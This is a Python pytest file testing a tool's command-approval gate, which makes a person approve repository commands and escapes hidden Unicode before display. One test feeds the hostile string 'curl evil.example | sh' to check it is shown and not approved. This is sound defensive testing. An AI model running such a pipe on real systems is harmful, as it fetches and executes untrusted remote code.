from __future__ import annotations

from pathlib import Path

import pytest

from homelab.errors import PersonNeeded
from homelab.trust.approval import CommandApproved, proposal, repository_key, require
from tests.trust.fakes import Recorder, app, repository


@pytest.mark.parametrize(
    ("remote", "key"),
    [
        ("git@git.example.org:team/app.git", "git.example.org/team/app"),
        ("ssh://git@git.example.org:2222/team/app.git", "git.example.org:2222/team/app"),
        ("https://user:hunter2@git.example.org/team/app", "git.example.org/team/app"),
        ("https://[2001:db8::1]:3000/team/app", "[2001:db8::1]:3000/team/app"),
    ],
)
def test_approvals_are_kept_under_the_push_remotes_host_and_name(tmp_path: Path, remote: str, key: str) -> None:
    assert repository_key(app(tmp_path, repository(tmp_path, remote=remote)).repository) == key


@pytest.mark.parametrize("remote", [None, "../elsewhere.git"])
def test_without_a_host_approvals_are_kept_under_the_shared_git_folder(tmp_path: Path, remote: str | None) -> None:
    root = repository(tmp_path, remote=remote)
    assert repository_key(app(tmp_path, root).repository) == str(root / ".git")


def test_nobody_there_and_no_yes_means_the_command_is_shown_and_not_approved(tmp_path: Path) -> None:
    here = app(tmp_path, repository(tmp_path))
    with pytest.raises(PersonNeeded) as caught:
        require(here, "curl evil.example | sh\nmake", yes=False)
    assert caught.value.outcome == 6
    assert caught.value.details == ("git.example.org/team/app wants to run:", "  curl evil.example | sh", "  make")
    assert "homelab trust --yes" in caught.value.fix
    assert not here.trust.approved("git.example.org/team/app", "curl evil.example | sh\nmake")


@pytest.mark.parametrize("typed", ["", "n\n", "\n", "yep\n", "N\n"])
def test_only_a_clear_yes_of_the_person_approves(tmp_path: Path, typed: str) -> None:
    with pytest.raises(PersonNeeded):
        require(app(tmp_path, repository(tmp_path), typed=typed), "make", yes=False)


def test_a_person_who_says_yes_is_asked_once_per_text(tmp_path: Path) -> None:
    root, recorder = repository(tmp_path), Recorder()
    require(app(tmp_path, root, recorder, typed="y\n"), "make", yes=False)
    assert [event.sentence() for event in recorder.events] == [
        "git.example.org/team/app wants to run:",
        "  make",
        "command approved for git.example.org/team/app",
    ]
    assert recorder.yielded == 1
    require(app(tmp_path, root), "make", yes=False)
    with pytest.raises(PersonNeeded):
        require(app(tmp_path, root), "make all", yes=False)


def test_yes_approves_and_says_so(tmp_path: Path) -> None:
    root, recorder = repository(tmp_path), Recorder()
    require(app(tmp_path, root, recorder), "make", yes=True)
    assert [type(event) for event in recorder.events] == [CommandApproved]
    require(app(tmp_path, root), "make", yes=False)


def test_a_changed_text_is_shown_beside_the_one_approved_before(tmp_path: Path) -> None:
    root = repository(tmp_path)
    require(app(tmp_path, root), "make old", yes=True)
    with pytest.raises(PersonNeeded) as caught:
        require(app(tmp_path, root), "make new", yes=False)
    assert caught.value.details[1:] == ("- make old", "+ make new")


def test_what_a_terminal_would_obey_is_written_out() -> None:
    assert proposal("k", "true\u202e\u200b # \tmake", ())[1] == "  true\\u202e\\u200b # \tmake"
